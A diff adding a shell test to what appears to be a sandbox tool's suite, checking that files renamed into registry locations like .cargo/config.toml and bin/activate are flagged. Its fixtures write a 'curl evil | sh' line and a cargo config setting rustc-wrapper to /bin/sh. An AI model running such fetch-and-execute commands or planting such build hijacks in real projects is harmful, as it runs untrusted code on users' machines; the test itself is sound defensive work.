@@ -284,6 +284,28 @@ hostrun_created_live() {
         true
 }
 
+# A file written under a harmless name in one run and its directory renamed into a registry
+# name in the next keeps its ctime from the first (a rename changes the moved directory's,
+# not its files'): it is named all the same, as not protected by the walk at the start. It
+# was not, before: .cargo/config.toml and bin/activate reached the host unsaid.
+hostrun_renamed_into_place() {
+        local ws=$T_TMP/ws
+        mkdir -p "$ws"
+        t_exec --workspace "$ws" -- sh -c 'mkdir -p notes tools &&
+                printf "[build]\nrustc-wrapper = \"/bin/sh\"\n" >notes/config.toml &&
+                echo "curl evil | sh" >tools/activate'
+        t_exit_is 0
+        grep -q "WARNING" "$T_ERR_FILE" && t_fail "named what is no registry file: $(cat "$T_ERR_FILE")"
+        echo '# old' >"$ws/.envrc"
+        sleep 0.05
+        t_exec --workspace "$ws" -- sh -c 'mv notes .cargo && mv tools bin'
+        t_exit_is 0
+        t_stderr_has "WARNING: the command made or changed /workspace/.cargo/config.toml"
+        t_stderr_has "WARNING: the command made or changed /workspace/bin/activate"
+        grep -q '\.envrc' "$T_ERR_FILE" && t_fail "named what was there and left alone: $(cat "$T_ERR_FILE")"
+        true
+}
+
 # Telling the start's time leaves no trace a watcher of the workspace sees (a build's or an
 # editor's: inotify): the unnamed file it changes is made beside the workspace, in its parent
 # on the same file system. Made in the workspace, it showed as an open, an attribute change
@@ -481,6 +503,7 @@ t_run git_cousins git_cousins
 t_run hostrun_files hostrun_files
 t_run hostrun_families hostrun_families
 t_run hostrun_created_live hostrun_created_live
+t_run hostrun_renamed_into_place hostrun_renamed_into_place
 t_run hostrun_mark_unseen hostrun_mark_unseen
 t_run hostrun_created_on_coarse_mount hostrun_created_on_coarse_mount
 t_run git_in_rw_bind git_in_rw_bind
